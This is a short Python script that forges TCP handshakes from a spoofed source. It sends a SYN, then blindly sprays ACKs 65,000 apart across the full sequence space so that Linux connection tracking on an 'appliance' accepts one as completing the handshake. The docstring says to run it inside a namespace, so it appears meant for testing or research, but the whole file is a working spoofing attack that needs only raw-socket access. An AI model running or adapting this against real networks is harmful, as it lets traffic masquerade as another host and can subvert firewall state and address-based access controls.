"""A blind attacker's handshakes in another's name: run inside a namespace,
``python blind_ack.py SRC DST PORT COUNT``.  For each of COUNT handshakes it forges a SYN
from SRC to DST:PORT, then, never seeing the SYN-ACK, ACKs with acknowledgement numbers
65,000 apart over the whole sequence space: conntrack takes an ACK within 66,000 of the
right one, so one of them "completes" the handshake to conntrack.  IPv4 or IPv6 (by SRC);
needs a raw socket (root there)."""

from __future__ import annotations

import random
import socket
import sys
import time

from spoof import segment

SYN, ACK = 0x02, 0x10
STEP = 65_000            # under the 66,000 conntrack allows: no window is skipped


def main(src: str, dst: str, port: int, count: int) -> None:
    family = socket.AF_INET6 if ":" in src else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in range(count):
            sport, isn = random.randint(20000, 60000), random.getrandbits(32)
            sock.sendto(segment(src, dst, sport, port, isn, 0, SYN), (dst, 0))
            time.sleep(0.05)        # the appliance's SYN-ACK (unseen) leaves meanwhile
            for guess in range(0, 2**32, STEP):
                sock.sendto(segment(src, dst, sport, port, (isn + 1) % 2**32, guess,
                                    ACK), (dst, 0))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
